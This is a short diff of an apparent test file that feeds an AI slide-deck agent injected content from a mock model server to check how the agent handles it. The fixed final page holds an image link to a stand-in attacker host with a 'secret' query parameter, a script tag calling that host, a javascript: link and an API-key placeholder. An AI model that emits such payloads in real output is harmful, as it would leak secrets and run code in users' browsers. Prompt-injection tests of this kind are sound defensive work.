@@ -26,7 +26,7 @@ const groups = Array.from({ length: Math.ceil(attacks.length / atOnce) }, (_, in
 function obey(told: readonly string[]): string {
   const pages = Array.from({ length: Math.ceil(told.length / onOnePage) }, (_, index) => {
     const texts = told.slice(index * onOnePage, (index + 1) * onOnePage);
-    return `# StatedFacts ${index}\n\n${texts.join('\n\n')}`;
+    return `# Page ${index}\n\n${texts.join('\n\n')}`;
   });
   const last =
     '# Last\n\n![x](https://evil.example/x.png?d=secret)\n\n<script>fetch("https://evil.example")</script>\n\n[click](javascript:alert(1)) {{MODEL_API_KEY}}';
@@ -43,7 +43,7 @@ test.skipIf(!exists).each(groups.map((group, index) => [index, group] as const))
     ] as const;
     const request: AgentRequest = { prompt: 'A deck about our figures', materials };
     const server = await startModelServer((_, count) => ({
-      text: count === 0 ? '# Figures\n- StatedFacts: it\n' : obey(group),
+      text: count === 0 ? '# Figures\n- Page: what they say\n' : obey(group),
     }));
     try {
       const model = createModel({
